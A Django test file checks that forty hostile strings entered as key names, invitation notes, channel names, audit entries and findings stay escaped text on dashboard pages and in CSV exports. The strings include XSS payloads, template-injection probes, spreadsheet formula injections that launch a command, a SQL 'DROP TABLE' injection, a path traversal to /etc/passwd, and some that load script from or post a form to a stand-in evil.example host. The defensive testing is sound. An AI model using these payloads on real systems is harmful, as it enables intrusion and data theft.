"""Forty strings that attack pages, spreadsheets and terminals, in every name that users and agents
set: all of them stay text."""

from __future__ import annotations

import csv

from django.test import Client
from django.utils.html import escape

from dashboard.accounts.models import User
from dashboard.accounts.services import audit_write
from dashboard.alerts.models import Alert, Channel
from dashboard.common import clock
from dashboard.fleet.models import Finding
from dashboard.projects.invitations import invitation_create
from dashboard.projects.models import Member, Project, Role
from dashboard.projects.services import key_create
from dashboard.ui.http.csv_export import FORMULA_PREFIXES
from tests.dashboard.ui.test_foreign_text_stays_text import Dangers

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "</title><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "-->]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>click</a>",
    "javascript:alert(1)//",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(alert(1))//",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=javascript:alert(1)>",
    "{{ 7*7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "hx-get=//evil.example hx-trigger=load",
    '"hx-on:load="alert(1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "'; DROP TABLE project; --",
    "../../../../etc/passwd",
]


def fill(alert: Alert, user: User) -> None:
    """Create a row of each kind for each string."""
    project, version, now = alert.project, alert.deployment.version, clock.now()
    for number, text in enumerate(HOSTILE):
        key_create(project=project, name=text, actor=user)
        invitation_create(project=project, role="viewer", note=text, actor=user)
        Channel.objects.create(
            project=project, kind="webhook", name=text, address="https://x.example/", created_at=now
        )
        audit_write(
            action="key.create", subject=text, project_id=project.pk, actor=user, after={text: text}
        )
        other = Project.objects.create(name=text, slug=f"other-{number}", created_at=now)
        Member.objects.create(project=other, user=user, role=Role.VIEWER, created_at=now)
        Finding.objects.create(
            project=project,
            model=alert.deployment.model,
            kind="graph_break",
            fingerprint=f"{number:032d}",
            text=text,
            where=text,
            first_version=version,
            last_version=version,
            first_seen_at=now,
            last_seen_at=now,
        )


def test_no_hostile_string_becomes_markup(signed_in: Client, alert: Alert, user: User) -> None:
    assert len(set(HOSTILE)) == 40
    fill(alert, user)
    where = {
        "/": 40,
        "/p/ranking/settings/keys/": 40,
        "/p/ranking/settings/members/": 40,
        "/p/ranking/settings/messages/": 40,
    }
    where |= {
        "/p/ranking/setup/": 40,
        "/p/ranking/settings/audit/?action=key": 25,
        "/p/ranking/findings/": 10,
    }
    for address, least in where.items():
        html = signed_in.get(address).content.decode()
        assert Dangers(html).found == [], address
        shown = [text for text in HOSTILE if escape(text.strip()) in html]
        assert len(shown) >= least - 1, (address, [text for text in HOSTILE if text not in shown])


def test_no_hostile_string_becomes_a_formula_in_a_spreadsheet(
    signed_in: Client, alert: Alert, user: User
) -> None:
    fill(alert, user)
    rows = list(
        csv.reader(signed_in.get("/p/ranking/settings/audit.csv").content.decode().splitlines())
    )
    cells = [cell for row in rows for cell in row]
    assert len(rows) > 120 and sum(text in cell for text in HOSTILE for cell in cells) >= 40
    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
